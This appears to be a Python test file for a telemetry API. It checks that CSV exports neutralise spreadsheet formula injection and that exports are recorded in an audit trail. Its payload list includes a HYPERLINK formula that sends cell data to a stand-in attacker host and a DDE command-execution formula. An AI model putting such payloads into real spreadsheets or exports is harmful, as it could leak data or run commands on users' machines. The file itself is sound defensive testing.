"""Copies as CSV: what a spreadsheet must not run, and who has made them."""

from __future__ import annotations

import csv
import io
import json

import asyncpg
import httpx2
import pytest

from tests.api.plant import Plant, at
from tests.in_turn import in_turn

DEFUSED = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *('=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "\uff1d1+1"),
]


def cells(answer: httpx2.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.text, newline="")))


@pytest.mark.parametrize("text", DEFUSED)
async def test_a_text_is_no_formula_for_a_spreadsheet(plant: Plant, client: httpx2.AsyncClient, text: str) -> None:
    device = await plant.device("br-1")
    await plant.event(device, at(0), text, {"note": text})
    await plant.sql.execute("update devices set location = $1", text)
    await plant.sql.execute(
        "insert into annotations (device_id, begins, text, who) values ($1, now(), $2, 'eva')", device, text
    )
    await plant.sql.execute(
        "insert into audit (organization_id, who, action, subject, why) values (1, $1, 'x', 'y', $1)", text
    )
    layout = await plant.layout(device, text)
    await plant.frames(device, layout, [(at(0), [-1.5], None)])
    for path in ("devices", "devices/br-1/events", "devices/br-1/annotations", "audit", "devices/br-1/channels"):
        rows = cells(await client.get(f"/api/v1/{path}.csv"))
        flat = [cell for row in rows for cell in row]
        assert f"'{text}" in flat, path
        assert text not in flat, path
    span = {"from": "2026-03-01T09:00:00Z", "to": "2026-03-01T11:00:00Z"}
    [header, row] = cells(await client.get("/api/v1/devices/br-1/telemetry.csv", params=span))
    assert (header[1], row[1]) == (f"'{text}", "-1.5"), "a number is no text"


@pytest.fixture
async def device(plant: Plant) -> int:
    return await plant.device("br-1")


@in_turn("text", ["1=1", "a+b", "pH - 7", "'=1+1", " =1", "Zürich"])
async def test_other_texts_are_as_they_are(plant: Plant, device: int, client: httpx2.AsyncClient, text: str) -> None:
    await plant.sql.execute("update devices set location = $1 where device_id = $2", text, device)
    assert text in cells(await client.get("/api/v1/devices.csv"))[1]


async def exports(sql: asyncpg.Connection) -> list[tuple[str, str, int]]:
    rows = await sql.fetch("select who, subject, new from audit where action = 'export' order by n")
    return [(row["who"], row["subject"], json.loads(row["new"])["times"]) for row in rows]


async def test_who_copies_everything_is_in_the_trail(plant: Plant, client: httpx2.AsyncClient) -> None:
    for name in ("br-1", "br-2"):
        device = await plant.device(name)
        await plant.frames(device, await plant.layout(device, "ph"), [(at(0), [7.0], None)])
    span = {"from": "2026-03-01T09:00:00Z", "to": "2026-03-01T11:00:00Z"}
    for _ in range(11):
        cells(await client.get("/api/v1/devices/br-1/telemetry.csv", params=span))
    cells(await client.get("/api/v1/devices/br-2/telemetry", params=span | {"format": "csv", "bucket": "1m"}))
    assert (await client.get("/api/v1/audit.jsonl")).status_code == 200
    assert (await client.get("/api/v1/devices/br-2/telemetry", params=span)).status_code == 200  # a page
    assert (await client.get("/api/v1/devices/br-9/telemetry.csv", params=span)).status_code == 404
    found = await exports(plant.sql)
    assert [(subject, times) for _, subject, times in found] == [
        ("devices/br-1/telemetry", 1),
        ("devices/br-1/telemetry", 10),
        ("devices/br-2/telemetry", 1),
        ("audit.jsonl", 1),
    ]
    assert {who.partition(" ")[0] for who, _, _ in found} == {"key"}
    new = json.loads(await plant.sql.fetchval("select new from audit where action = 'export' order by n limit 1"))
    assert new == span | {"address": "127.0.0.1", "times": 1}


async def test_each_person_and_each_hour_count_by_themselves(plant: Plant, client: httpx2.AsyncClient) -> None:
    for change in (None, "update audit_sums set hour = hour - interval '1 h'", "update audit_sums set who = 'another'"):
        if change is not None:
            await plant.sql.execute(change)
        cells(await client.get("/api/v1/audit.csv"))
    assert [times for _, _, times in await exports(plant.sql)] == [1, 1, 1]
